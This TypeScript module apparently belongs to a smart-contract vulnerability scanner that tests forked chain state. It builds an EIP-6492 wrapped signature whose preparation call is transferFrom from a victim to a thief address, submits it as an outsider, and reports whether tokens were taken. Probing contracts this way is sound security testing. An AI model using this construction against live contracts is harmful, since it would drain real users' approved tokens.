import { encodeAbiParameters } from 'viem'
import { callData } from '../../dex/read-contract.js'
import type { Hex } from '../../hex.js'
import { portionOf } from './assets.js'
import { delegatesOf } from './delegates-of.js'
import type { Stage } from './phishing-stage.js'
import type { EntryPoint } from './read-functions.js'
import { type Call, tryCall } from './try-call.js'

/** What ends a signature of an account that is not there yet (EIP-6492). */
const MAGIC = '6492649264926492649264926492649264926492649264926492649264926492'
const WRAPPED = [{ type: 'address' }, { type: 'bytes' }, { type: 'bytes' }] as const
const PLAIN_SIGNATURE: Hex = `0x${'01'.repeat(65)}`
/** `transferFrom(address,address,uint256)` */
const TRANSFER_FROM: Hex = '0x23b872dd'

/** Whether code knows signatures of that form. */
const knowsWrapped = (code: Uint8Array): boolean =>
  Buffer.from(code.buffer, code.byteOffset, code.length).includes(Buffer.from(MAGIC, 'hex'))

/**
 * Tries signatures whose preparation is a call that takes from a victim: a contract that makes it
 * itself, and not by another, can be had to call anything. `ask` finds out what a refusal wants.
 * Whether it did harm.
 */
export function tryWrappedSignature(stage: Stage, entry: EntryPoint, ask: (refused: Call) => boolean): boolean {
  const { fork, target, victim, thief, marks, outsider } = stage
  const codes = [target, ...delegatesOf(fork, target)].map((address) => fork.evm.code(address))
  const [holding] = victim.holdings
  const { leaves } = entry.template
  if (holding === undefined || !leaves.some(({ type }) => type === 'bytes') || !codes.some(knowsWrapped)) return false
  const pull = callData(TRANSFER_FROM, [victim.address, thief, portionOf(holding)])
  const signature: Hex = `${encodeAbiParameters(WRAPPED, [holding.token, pull, PLAIN_SIGNATURE])}${MAGIC}`
  const values = marks.valuesFor(entry.template).map((value, i) => (leaves[i]?.type === 'bytes' ? signature : value))
  const call: Call = { entry, marks: values, caller: outsider, by: 'anyone' }
  const { isHarmful, outcome } = tryCall(stage, call)
  return isHarmful || (!outcome.success && ask(call))
}
